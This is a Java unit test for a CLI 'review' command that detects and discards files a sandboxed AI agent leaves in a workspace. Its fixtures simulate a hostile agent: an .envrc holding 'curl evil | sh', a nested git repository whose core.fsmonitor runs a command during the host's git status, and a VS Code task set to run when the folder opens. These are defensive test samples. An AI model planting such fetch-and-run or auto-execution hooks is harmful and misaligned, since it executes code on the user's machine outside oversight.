package dev.scc.cli.commands.runtime;

import static org.assertj.core.api.Assertions.assertThat;

import dev.scc.cli.CliServices;
import dev.scc.cli.Main;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code scc review} against the launch checkpoint, with a real git: what the read-only mounts cannot cover (a
 * protected file absent at launch, a git repository the agent nests and registers as a submodule) is shown with a
 * diff and discarded, after which the host's {@code git status} runs nothing the agent left.
 */
class ReviewCommandTest {
    @TempDir
    Path tmp;
    Path ws;
    CliServices services;
    StringWriter out;
    StringWriter err;

    @BeforeEach
    void setUp() throws Exception {
        ws = Files.createDirectories(tmp.resolve("project"));
        services = new CliServices(Map.of("HOME", tmp.resolve("home").toString(), "XDG_STATE_HOME",
                tmp.resolve("state").toString()), tmp.resolve("home"), Clock.systemUTC(), ws, false);
        git(ws, "init", "-q", "-b", "main");
        Files.writeString(ws.resolve("README"), "hi\n");
        git(ws, "add", "-A");
        git(ws, "commit", "-q", "-m", "one");
        assertThat(scc("checkpoint", "--reason", "launch")).as(err.toString()).isZero();
    }

    private int scc(String... args) {
        out = new StringWriter();
        err = new StringWriter();
        return Main.run(new PrintWriter(out, true), new PrintWriter(err, true), services, args);
    }

    @Test
    void aNestedRepositoryAndANewEnvrcAreShownWithADiffAndDiscarded() throws Exception {
        // what a hostile agent leaves: an .envrc (absent at launch, so not mounted read-only) and a nested
        // repository with core.fsmonitor, registered in the index as a submodule
        Files.writeString(ws.resolve(".envrc"), "curl evil | sh\n");
        Path sub = Files.createDirectories(ws.resolve("sub"));
        git(sub, "init", "-q");
        Files.writeString(sub.resolve("s"), "s\n");
        git(sub, "add", "s");
        git(sub, "commit", "-q", "-m", "s");
        git(sub, "config", "core.fsmonitor", "touch " + ws.resolve("PWNED") + "; false");
        git(ws, "add", "sub");
        Files.deleteIfExists(ws.resolve("PWNED"));
        Files.writeString(ws.resolve("work.txt"), "the agent's ordinary work\n");

        assertThat(scc("review")).isEqualTo(6);
        assertThat(out.toString()).contains("added .envrc", "+curl evil | sh", "added sub/.git",
                "a git repository nested in the workspace", "scc review --discard").doesNotContain("work.txt");

        assertThat(scc("review", "--discard")).as(err.toString()).isZero();
        assertThat(ws.resolve(".envrc")).doesNotExist();
        assertThat(ws.resolve("sub/.git")).doesNotExist();
        assertThat(ws.resolve("work.txt")).exists();
        git(ws, "status");
        assertThat(ws.resolve("PWNED")).as("the host's git status ran nothing").doesNotExist();
        assertThat(scc("review")).isZero();
        assertThat(out.toString()).contains("no changes");
    }

    @Test
    void keepAcceptsAndJsonListsTheChanges() throws Exception {
        Files.createDirectories(ws.resolve(".vscode"));
        Files.writeString(ws.resolve(".vscode/tasks.json"), "{\"runOn\":\"folderOpen\"}\n");
        assertThat(scc("review", "--json")).isEqualTo(6);
        assertThat(out.toString()).contains("\"path\" : \".vscode/tasks.json\"", "\"change\" : \"added\"");
        assertThat(scc("review", "--keep")).isZero();
        assertThat(ws.resolve(".vscode/tasks.json")).exists();
    }

    private static void git(Path dir, String... args) throws Exception {
        List<String> argv = new ArrayList<>(List.of("git", "-c", "user.name=dev", "-c", "user.email=dev@test", "-C",
                dir.toString()));
        argv.addAll(List.of(args));
        Process p = new ProcessBuilder(argv).redirectErrorStream(true).start();
        String o = new String(p.getInputStream().readAllBytes());
        assertThat(p.waitFor()).as(argv + ": " + o).isZero();
    }
}
